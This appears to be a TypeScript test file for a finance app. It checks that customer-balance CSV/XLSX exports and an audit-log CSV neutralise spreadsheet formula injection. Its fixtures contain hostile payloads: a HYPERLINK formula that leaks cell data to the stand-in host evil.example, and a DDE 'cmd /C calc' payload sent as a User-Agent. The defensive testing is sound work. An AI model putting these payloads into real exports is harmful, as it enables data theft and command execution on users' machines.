import { test } from '@japa/runner'
import ExcelJS from 'exceljs'
import db from '@adonisjs/lucid/services/db'
import { expectStatus, getAs, postAs } from '#tests/support/api'
import { makeUser, unique } from '#tests/support/fixtures'
import { route } from '#tests/support/route'
import { AUDIT_USER_AGENT_SQL } from '#modules/audit/public'

const NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
const PROJECT = '@SUM(1+1)'
const AGENT = "=cmd|' /C calc'!A0"

/** Splits a CSV line as RFC 4180 quoting writes it (enough for these fixtures). */
function cells(line: string): string[] {
  return (line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
    .map((c) => c.replace(/,$/, ''))
    .map((c) => (c.startsWith('"') ? c.slice(1, -1).replaceAll('""', '"') : c))
}

test.group('Hardening: no export writes a formula', () => {
  test('balances CSV and XLSX and the audit CSV neutralise names and the User-Agent', async ({
    client,
    assert,
  }) => {
    const { token: sales } = await makeUser('finance')
    const code = unique('INJ')
    const customer = await expectStatus(
      postAs(client, sales, route('customers.store'), { code, name: NAME, defaultCurrency: 'CNY' }),
      201
    )
    const customerId = customer.body().id
    const project = await expectStatus(
      postAs(client, sales, route('customers.projects.store', { id: customerId }), {
        code: unique('P'),
        name: PROJECT,
      }),
      201
    )
    await expectStatus(
      postAs(client, sales, route('receipts.store'), {
        customerId,
        projectId: project.body().id,
        amount: '100.50',
        currency: 'CNY',
        channel: 'bank_transfer',
        entryDate: '2026-03-02',
      }).header('User-Agent', AGENT),
      201
    )
    const { token: auditor } = await makeUser('auditor')
    const range = 'from=2026-03-01&to=2026-03-31'

    const csv = await expectStatus(
      getAs(client, auditor, `${route('reports.balances')}?groupBy=customer&${range}&format=csv`),
      200
    )
    const line = csv
      .text()
      .split('\r\n')
      .find((l) => l.startsWith(code))!
    assert.deepEqual(cells(line).slice(0, 5), [code, `'${NAME}`, 'CNY', '0.00', '100.50'])

    const byProject = await expectStatus(
      getAs(client, auditor, `${route('reports.balances')}?groupBy=project&${range}&format=csv`),
      200
    )
    assert.include(byProject.text(), `,'${PROJECT},`)
    assert.notInclude(byProject.text(), `,${PROJECT},`)

    const xlsx = await expectStatus(
      getAs(client, auditor, `${route('reports.balances')}?groupBy=customer&${range}&format=xlsx`),
      200
    )
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(xlsx.body() as any)
    const labels: unknown[] = []
    workbook.worksheets[0].eachRow((r) => {
      if (r.getCell(1).value === code) labels.push(r.getCell(2).value, r.getCell(5).value)
    })
    assert.deepEqual(labels, [`'${NAME}`, 100.5])

    const audit = await expectStatus(
      getAs(client, auditor, `${route('audit_logs.export')}?entityType=journal&limit=50`),
      200
    )
    const stored = await db
      .from('audit_logs')
      .whereRaw(`${AUDIT_USER_AGENT_SQL} = ?`, [AGENT])
      .count('* as n')
      .first()
    assert.isAbove(Number(stored.n), 0)
    assert.include(audit.text(), `'${AGENT}`)
    for (const row of audit.text().split('\r\n')) {
      assert.notMatch(row, /(^|,)"?[=+@]/, row)
    }
  })
})
